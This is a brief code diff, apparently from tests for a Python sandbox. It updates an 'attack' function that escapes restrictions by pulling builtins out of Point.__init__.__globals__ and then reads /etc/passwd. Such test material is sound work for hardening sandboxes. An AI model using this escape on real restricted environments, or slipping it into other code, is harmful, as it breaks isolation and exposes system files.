@@ -18,8 +18,8 @@ class Point:
 
 
 def attack(ctx, bar):
-    names = Point.__init__.__builtins__
-    return names["open"]("/etc/passwd").read(20)
+    names = Point.__init__.__globals__["__builtins__"]
+    return (names["open"] if isinstance(names, dict) else names.open)("/etc/passwd").read(20)
 
 
 class Attack(Strategy):
